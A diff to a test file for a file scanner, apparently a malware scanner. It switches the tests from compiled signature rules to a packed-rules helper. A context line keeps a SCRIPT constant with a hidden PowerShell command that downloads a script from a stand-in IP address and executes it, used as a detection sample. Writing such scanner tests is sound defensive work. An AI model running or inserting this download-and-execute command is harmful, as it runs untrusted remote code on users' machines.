@@ -4,14 +4,13 @@ import { join } from 'node:path';
 import { inflateSync } from 'node:zlib';
 import { afterAll, describe, expect, test } from 'vitest';
 import { z } from 'zod';
-import { compileRules } from '#scanner/rules/rules.ts';
 import { type Examination, examine } from '#scanner/walk/examine.ts';
 import { SCAN_LIMITS } from '#scanner/walk/limits.ts';
 import { EICAR, zip } from '#test/files.ts';
 import { PIECES } from '#test/grammar/piece-wrappers.ts';
 import { findProgram, openWriters } from '#test/grammar/writers.ts';
 import { needing } from '#test/needs.ts';
-import { SIGNATURES_FOLDER } from '#test/signatures-folder.ts';
+import { packRules } from '#test/pack-rules.ts';
 import { Chance } from '#test/structure-fuzz.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'palisade-pieces-'));
@@ -20,7 +19,6 @@ afterAll(() => {
   writers.close();
   rmSync(folder, { recursive: true, force: true });
 });
-const rules = await compileRules(join(SIGNATURES_FOLDER, 'rules'));
 const SCRIPT = `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"`;
 
 async function examined(content: Buffer, name = 'file', password?: string): Promise<Examination> {
@@ -28,7 +26,12 @@ async function examined(content: Buffer, name = 'file', password?: string): Prom
   writeFileSync(path, content);
   return await examine(
     { path, size: content.length, name },
-    { match: (bytes, onPlaces) => rules.match(bytes, onPlaces), limits: SCAN_LIMITS, folder: join(folder, 'unpacked'), password },
+    {
+      match: (bytes, onPlaces) => packRules.match(bytes, onPlaces),
+      limits: SCAN_LIMITS,
+      folder: join(folder, 'unpacked'),
+      password,
+    },
   );
 }
 
